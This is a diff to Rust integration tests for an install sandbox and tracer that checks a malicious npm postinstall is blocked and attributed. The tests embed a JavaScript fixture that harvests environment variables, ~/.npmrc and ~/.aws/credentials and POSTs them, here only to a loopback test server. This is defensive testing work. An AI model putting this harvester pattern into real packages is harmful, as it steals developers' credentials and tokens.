@@ -96,6 +96,8 @@ fn trace_names_the_package_that_harvests_and_alerts_on_the_canary() {
         &[
             ("ANTHROPIC_API_KEY", &key),
             ("npm_config_cache", cache.to_str().unwrap()),
+            // No look at the registry for a newer npm: this test stays on loopback.
+            ("npm_config_update_notifier", "false"),
         ],
     );
     assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
@@ -166,6 +168,7 @@ fn read_trace(path: &Path) -> (String, Vec<serde_json::Value>) {
 /// harvester's read of ~/.npmrc and its send of the canary credited to its postinstall script,
 /// and nothing but its start credited to the benign package's.
 fn assert_harvest_attributed(events: &[serde_json::Value]) {
+    assert_stayed_on_loopback(events);
     let of = |group: &str, kind: &str| -> Vec<&serde_json::Value> {
         events
             .iter()
@@ -190,6 +193,18 @@ fn assert_harvest_attributed(events: &[serde_json::Value]) {
     assert!(!of(benign_group, "exec").is_empty(), "{events:?}");
     for kind in ["open", "dns", "connect", "secret-sent", "secret-written"] {
         assert!(of(benign_group, kind).is_empty(), "{kind}: {events:?}");
+    }
+}
+
+/// Every connect in the trace went to loopback or a Unix socket: the tests must not reach off
+/// the machine (npm, say, asking the registry for a newer npm).
+fn assert_stayed_on_loopback(events: &[serde_json::Value]) {
+    for e in events.iter().filter(|e| e["event"] == "connect") {
+        let a = e["address"].as_str().unwrap_or("");
+        assert!(
+            a.starts_with("127.") || a.starts_with("[::1]") || a.starts_with("unix:"),
+            "{e}"
+        );
     }
 }
 
@@ -485,8 +500,13 @@ fn trace_names_the_package_that_harvests_under_pnpm() {
             "install",
             "--store-dir",
             store.to_str().unwrap(),
+            "--offline",
         ],
-        &[("ANTHROPIC_API_KEY", &key)],
+        &[
+            ("ANTHROPIC_API_KEY", &key),
+            // No look at the registry for a newer pnpm: this test stays on loopback.
+            ("npm_config_update_notifier", "false"),
+        ],
     );
     assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
     let (text, events) = read_trace(&trace);
@@ -497,6 +517,142 @@ fn trace_names_the_package_that_harvests_under_pnpm() {
         r.stderr
     );
     r.assert_no_secret(&fx.planted);
+    for planted in &fx.planted {
+        assert!(
+            !text.contains(planted.as_str()),
+            "a planted value is in the trace"
+        );
+    }
+}
+
+/// The harvesting postinstall again, sending its loot by HTTP POST to a server the test runs on
+/// loopback, and writing what each attempt gave to `probe.txt` in the project.
+const EVIL_HTTP: &str = r#"
+const fs = require("fs"), os = require("os"), http = require("http");
+const got = [];
+let loot = JSON.stringify(process.env);
+for (const f of [".npmrc", ".aws/credentials"]) {
+  try { loot += fs.readFileSync(os.homedir() + "/" + f, "utf8"); got.push(f + "=read"); }
+  catch (e) { got.push(f + "=" + e.code); }
+}
+const done = () => fs.writeFileSync(process.env.INIT_CWD + "/probe.txt", got.join("\n") + "\n");
+const req = http.request({ host: "127.0.0.1", port: PORT, method: "POST", path: "/" },
+  res => { got.push("post=" + res.statusCode); done(); });
+req.on("error", e => { got.push("post=" + e.code); done(); });
+req.end(loot);
+"#;
+
+/// The same harvester under the built-in `install` profile (the sandbox) with the network
+/// limited to HTTPS: its reads of ~/.npmrc and ~/.aws/credentials and its connection to the
+/// loopback server fail, the trace reports each as blocked and credits it to the package, and
+/// the server receives nothing.
+#[test]
+fn trace_reports_what_the_install_sandbox_blocked() {
+    use std::io::Read;
+    use std::sync::{Arc, Mutex};
+    let mut fx = Fixture::outside_tmp();
+    let key = fx.key("anthropic");
+    let npm_token = fx.key("npm");
+    let aws = fx.key("aws-secret");
+    fx.home_file(
+        ".npmrc",
+        &format!("//registry.npmjs.org/:_authToken={npm_token}\n"),
+    );
+    fx.home_file(
+        ".aws/credentials",
+        &format!("[default]\naws_secret_access_key = {aws}\n"),
+    );
+    let received = Arc::new(Mutex::new(Vec::new()));
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let got = received.clone();
+    std::thread::spawn(move || {
+        for c in listener.incoming() {
+            let Ok(mut c) = c else { continue };
+            let _ = c.set_read_timeout(Some(std::time::Duration::from_millis(300)));
+            let mut buf = Vec::new();
+            let _ = c.read_to_end(&mut buf);
+            got.lock().unwrap().push(buf);
+        }
+    });
+    let pkgs = fx.dir.path().join("pkgs");
+    let evil = package(
+        &pkgs,
+        "evil-helper",
+        "node install.js",
+        &EVIL_HTTP.replace("PORT", &port.to_string()),
+    );
+    fx.project_file("package.json", r#"{"name": "app", "version": "1.0.0"}"#);
+    // In the project: the sandbox lets the tree write there (and keyfence, which is in it too).
+    let trace = fx.project.join("trace.jsonl");
+    let trace_arg = format!("--trace={}", trace.display());
+    // The sandbox can only let the tree write beneath directories that exist when it starts.
+    let cache = fx.home.join(".npm");
+    std::fs::create_dir_all(&cache).unwrap();
+    let r = fx.run(
+        &[
+            "run",
+            "--profile",
+            "install",
+            "--net",
+            "tcp:443",
+            "--canary",
+            &trace_arg,
+            "--",
+            "npm",
+            "install",
+            "--offline",
+            "--no-audit",
+            "--no-fund",
+            "--foreground-scripts",
+            evil.to_str().unwrap(),
+        ],
+        &[
+            ("ANTHROPIC_API_KEY", &key),
+            ("npm_config_cache", cache.to_str().unwrap()),
+            // No look at the registry for a newer npm: this test stays on loopback.
+            ("npm_config_update_notifier", "false"),
+        ],
+    );
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    // What the script itself saw: every attempt failed.
+    let probe = std::fs::read_to_string(fx.project.join("probe.txt")).unwrap();
+    for line in [".npmrc=EACCES", ".aws/credentials=EACCES", "post=EACCES"] {
+        assert!(probe.lines().any(|l| l == line), "{line}: {probe}");
+    }
+    assert!(received.lock().unwrap().is_empty(), "the server got data");
+    // What the trace says: the same, each blocked, credited to the package.
+    let (text, events) = read_trace(&trace);
+    assert_stayed_on_loopback(&events);
+    let evil_group = "evil-helper@1.0.0 postinstall";
+    let blocked = |kind: &str, what: &str, field: &str| {
+        events.iter().any(|e| {
+            e["event"] == kind
+                && e["group"] == evil_group
+                && e["blocked"] == true
+                && e[field].as_str().is_some_and(|v| v.ends_with(what))
+        })
+    };
+    assert!(blocked("open", "/.npmrc", "path"), "{events:?}");
+    assert!(blocked("open", "/.aws/credentials", "path"), "{events:?}");
+    assert!(
+        blocked("connect", &format!("127.0.0.1:{port}"), "address"),
+        "{events:?}"
+    );
+    // An allowed connect or read carries no `blocked` at all.
+    assert!(
+        events
+            .iter()
+            .all(|e| e["blocked"].is_null() || e["blocked"] == true),
+        "{events:?}"
+    );
+    assert!(
+        r.stderr.contains("tried to read ~/.npmrc (blocked)")
+            && r.stderr
+                .contains(&format!("tried to connect to 127.0.0.1:{port} (blocked)")),
+        "{}",
+        r.stderr
+    );
     for planted in &fx.planted {
         assert!(
             !text.contains(planted.as_str()),
